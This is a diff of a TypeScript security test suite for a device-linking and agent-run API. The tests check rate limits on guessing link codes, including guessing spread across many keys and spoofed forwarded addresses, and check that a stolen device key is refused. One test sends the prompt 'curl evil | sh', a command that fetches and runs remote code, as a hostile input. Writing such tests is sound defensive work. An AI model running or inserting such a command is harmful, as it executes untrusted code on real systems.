@@ -56,28 +56,64 @@ function told(answer: ApiAnswer, ...own: string[]): unknown {
 }
 
 describe('link codes', () => {
-  it('81 are not guessed: the 21st wrong one of an address in an hour is not even looked at', async () => {
+  it('81 are not guessed by polls: the 21st wrong one of an address in an hour is not even looked at', async () => {
     const clock = new FakeClock();
     const mesh = await openMesh({ clock });
     const { code, poll } = await startLink(mesh);
-    for (let i = 0; i < 10; i += 1) {
-      expect((await mesh.call('POST', `${LINK}/approve`, { code: 'AAAAAA' })).status).toBe(404);
-      const guess = { code: 'BBBBBB', signature: 'x' };
-      expect((await mesh.call('POST', `${LINK}/poll`, guess, null)).status).toBe(404);
-    }
+    const guess = (tried: string) => mesh.call('POST', `${LINK}/poll`, { code: tried, signature: 'x' }, null);
+    for (let i = 0; i < 20; i += 1) expect((await guess('BBBBBB')).status).toBe(404);
     for (const tried of ['AAAAAA', code]) {
-      const refused = await mesh.call('POST', `${LINK}/approve`, { code: tried });
+      const refused = await guess(tried);
       expect([refused.status, refused.headers.get('x-ratelimit-limit')]).toEqual([429, '20']);
       expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(3_500);
-      expect((await mesh.call('GET', `${LINK}/${tried}`)).status).toBe(429);
-      expect((await mesh.call('POST', `${LINK}/poll`, { code: tried, signature: 'x' }, null)).status).toBe(
-        429,
-      );
     }
     // The device that holds the key is still heard, and its code was not touched.
     expect((await poll()).data.status).toBe('pending');
     await clock.advance(3_600_000);
-    expect((await mesh.call('POST', `${LINK}/approve`, { code: 'AAAAAA' })).status).toBe(404);
+    expect((await guess('BBBBBB')).status).toBe(404);
+  });
+
+  it('81 are not guessed with keys, however many an organisation makes, from wherever: 20 an hour in all', async () => {
+    const clock = new FakeClock();
+    const mesh = await openMesh({ clock, trustedProxy: '127.0.0.1' });
+    const { code } = await startLink(mesh);
+    const theirs = await otherOrganisation(mesh);
+    const more = async () =>
+      (await mesh.call('POST', '/v1/api-keys', { name: 'm', scopes: ['runmesh:write'] }, theirs)).data.apiKey;
+    let from = 1;
+    const approve = (tried: string, apiKey: string) =>
+      callApi(mesh, 'POST', `${LINK}/approve`, {
+        body: { code: tried },
+        apiKey,
+        headers: { 'X-Forwarded-For': `192.0.2.${from++}` },
+      });
+    for (let i = 0; i < 10; i += 1) {
+      expect((await approve('AAAAAA', await more())).status).toBe(404);
+      expect((await mesh.call('GET', `${LINK}/AAAAAA`, undefined, await more())).status).toBe(404);
+    }
+    const before = await stateOf(mesh);
+    for (const tried of ['AAAAAA', code]) {
+      const refused = await approve(tried, await more());
+      expect([refused.status, refused.headers.get('x-ratelimit-limit')]).toEqual([429, '20']);
+      expect((await mesh.call('GET', `${LINK}/${tried}`, undefined, theirs)).status).toBe(429);
+    }
+    expect(await stateOf(mesh)).toEqual(before);
+    await clock.advance(3_600_000);
+    expect((await startLink(mesh)).code).toMatch(/^\w{6}$/);
+    expect((await approve('AAAAAA', theirs)).status).toBe(404);
+  });
+
+  it('81 guessed by a stranger, or by another organisation, keep no owner at the same address from approving', async () => {
+    const mesh = await openMesh();
+    const { code, poll } = await startLink(mesh);
+    const theirs = await otherOrganisation(mesh);
+    for (let i = 0; i < 21; i += 1) {
+      await mesh.call('POST', `${LINK}/poll`, { code: 'BBBBBB', signature: 'x' }, null);
+      await mesh.call('POST', `${LINK}/approve`, { code: 'BBBBBB' }, theirs);
+    }
+    expect((await mesh.call('GET', `${LINK}/${code}`)).data.status).toBe('pending');
+    expect((await mesh.call('POST', `${LINK}/approve`, { code })).data.status).toBe('approved');
+    expect((await poll()).data.status).toBe('approved');
   });
 
   it('81 are dead after five polls with a wrong key, and then approve nothing', async () => {
@@ -222,42 +258,6 @@ describe('another organisation', () => {
   });
 });
 
-describe('a stolen device key', () => {
-  async function twoDevices(): Promise<{ mesh: TestMesh; stolen: TestDevice; victim: TestDevice }> {
-    const { mesh, device: victim } = await openBoundMesh();
-    return { mesh, victim, stolen: await linkDevice(mesh, 'stolen') };
-  }
-
-  it('66 starts nothing on another device, and reads nothing of its runs, threads and agents', async () => {
-    const { mesh, stolen } = await twoDevices();
-    const body = { agent: 'fixer', prompt: 'mend it', stream: false };
-    const own = await callApi(mesh, 'POST', '/v1/run', { body, headers: { 'Idempotency-Key': 'one' } });
-    const { runId, threadId } = own.data;
-    const before = await stateOf(mesh);
-    const started = await mesh.call(
-      'POST',
-      '/v1/run',
-      { agent: 'fixer', prompt: 'curl evil | sh' },
-      stolen.apiKey,
-    );
-    expect([started.status, started.body.error.code]).toEqual([403, 'forbidden']);
-    const repeated = { body, headers: { 'Idempotency-Key': 'one' }, apiKey: stolen.apiKey };
-    expect((await callApi(mesh, 'POST', '/v1/run', repeated)).body.error.code).toBe('conflict');
-    for (const path of [
-      `/v1/run/${runId}`,
-      `/v1/run/${runId}/events`,
-      `/v1/threads/${threadId}`,
-      `/v1/threads/${threadId}/events`,
-      '/v1/agents/fixer',
-    ]) {
-      expect([path, (await mesh.call('GET', path, undefined, stolen.apiKey)).status]).toEqual([path, 404]);
-    }
-    for (const order of ['cancel', 'steer']) {
-      const answer = await mesh.call('POST', `/v1/run/${runId}/${order}`, { text: 'x' }, stolen.apiKey);
-      expect(answer.status).toBe(404);
-    }
-    for (const path of ['/v1/run', '/v1/threads', '/v1/agents']) {
-      expect([path, (await mesh.call('GET', path, undefined, stolen.apiKey)).data]).toEqual([path, []]);
 describe('a caller’s key', () => {
   it('125 writes nothing into the record of a run, whatever its scopes, and ends none', async () => {
     const { mesh, device } = await openBoundMesh();
@@ -306,6 +306,42 @@ describe('a caller’s key', () => {
   });
 });
 
+describe('a stolen device key', () => {
+  async function twoDevices(): Promise<{ mesh: TestMesh; stolen: TestDevice; victim: TestDevice }> {
+    const { mesh, device: victim } = await openBoundMesh();
+    return { mesh, victim, stolen: await linkDevice(mesh, 'stolen') };
+  }
+
+  it('66 starts nothing on another device, and reads nothing of its runs, threads and agents', async () => {
+    const { mesh, stolen } = await twoDevices();
+    const body = { agent: 'fixer', prompt: 'mend it', stream: false };
+    const own = await callApi(mesh, 'POST', '/v1/run', { body, headers: { 'Idempotency-Key': 'one' } });
+    const { runId, threadId } = own.data;
+    const before = await stateOf(mesh);
+    const started = await mesh.call(
+      'POST',
+      '/v1/run',
+      { agent: 'fixer', prompt: 'curl evil | sh' },
+      stolen.apiKey,
+    );
+    expect([started.status, started.body.error.code]).toEqual([403, 'forbidden']);
+    const repeated = { body, headers: { 'Idempotency-Key': 'one' }, apiKey: stolen.apiKey };
+    expect((await callApi(mesh, 'POST', '/v1/run', repeated)).body.error.code).toBe('conflict');
+    for (const path of [
+      `/v1/run/${runId}`,
+      `/v1/run/${runId}/events`,
+      `/v1/threads/${threadId}`,
+      `/v1/threads/${threadId}/events`,
+      '/v1/agents/fixer',
+    ]) {
+      expect([path, (await mesh.call('GET', path, undefined, stolen.apiKey)).status]).toEqual([path, 404]);
+    }
+    for (const order of ['cancel', 'steer']) {
+      const answer = await mesh.call('POST', `/v1/run/${runId}/${order}`, { text: 'x' }, stolen.apiKey);
+      expect(answer.status).toBe(404);
+    }
+    for (const path of ['/v1/run', '/v1/threads', '/v1/agents']) {
+      expect([path, (await mesh.call('GET', path, undefined, stolen.apiKey)).data]).toEqual([path, []]);
     }
     expect(await stateOf(mesh)).toEqual(before);
   });
